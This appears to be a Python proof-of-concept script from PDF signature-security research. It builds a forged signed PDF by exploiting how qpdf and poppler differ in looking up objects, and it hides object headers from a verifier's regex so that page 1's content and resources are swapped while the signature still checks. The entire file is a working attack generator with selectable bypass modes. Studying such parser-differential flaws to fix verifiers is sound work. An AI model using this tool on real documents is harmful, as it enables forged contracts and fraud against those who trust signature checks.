#!/usr/bin/env python3
"""A DSS-reachable object listed with generation 1 under the number of the signed AcroForm
(46): qpdf keys objects by number AND generation, so for it "46 0 R" still is the signed
AcroForm and "46 1" is a new DSS-reachable stream; poppler keys by number only, finds
generation 1 where the catalog asks for "46 0 R", and rebuilds the whole table by scanning
the file. The rescan also picks up object headers that start a line after a blank
(" 13 0 obj"), which the verifier's header regex ([\\r\\n]\\d+ \\d+ obj) does not see;
they sit inside the generation-1 stream and redefine page 1's content and resources.
usage: gen_reconstruct.py IN OUT [space|long] [CARRIER_NUM]
  space: hidden headers start a line after one blank (" 13 0 obj")
  long:  hidden headers follow, on the same line, a 255-byte comment: poppler reads lines
         in 255-byte pieces, so for it the header starts a line; nothing precedes it but
         '%AAA...' for the regex"""
import sys
from lib2 import *
src, dst = sys.argv[1], sys.argv[2]
mode = sys.argv[3] if len(sys.argv) > 3 else "space"
carrier = int(sys.argv[4]) if len(sys.argv) > 4 else 46
def hide(n):
    return b" %d 0 obj\n" % n if mode == "space" else b"%" + b"A" * 254 + b"%d 0 obj\n" % n
data = open(src, "rb").read()
tr = last_trailer(data)
size = tr[b"Size"]
cat = show(src, 6)
dss_old = cat.split(b"/DSS ")[1].split(b" R")[0] + b" R" if b"/DSS" in cat else None
content = forged_page1_content(src)
hidden = (b"%hidden definitions follow\n"
          + hide(13) + stream(content) + b"\nendobj\n"
          + hide(15) + forged_resources(src) + b"\nendobj\n")
dss_num = size
if dss_old:
    old = show(src, int(dss_old.split()[0]))
    dss = old[:-2] + b" /VRI << /0000000000000000000000000000000000000000 << /Cert [%d 1 R] >> >> >>" % carrier
else:
    dss = b"<< /Type /DSS /VRI << /0000000000000000000000000000000000000000 << /Cert [%d 1 R] >> >> >>" % carrier
newcat = cat.replace(b"/DSS " + dss_old, b"/DSS %d 0 R" % dss_num) if dss_old else cat[:-2] + b" /DSS %d 0 R >>" % dss_num
if dss_old:  # keep the DSS object, redefine it with the VRI entry
    objs = {(int(dss_old.split()[0]), 0): dss, (carrier, 1): stream(hidden)}
else:
    objs = {(6, 0): newcat, (dss_num, 0): dss, (carrier, 1): stream(hidden)}
open(dst, "wb").write(append(data, objs))
if os.environ.get('REPORT'):
    report(dst)
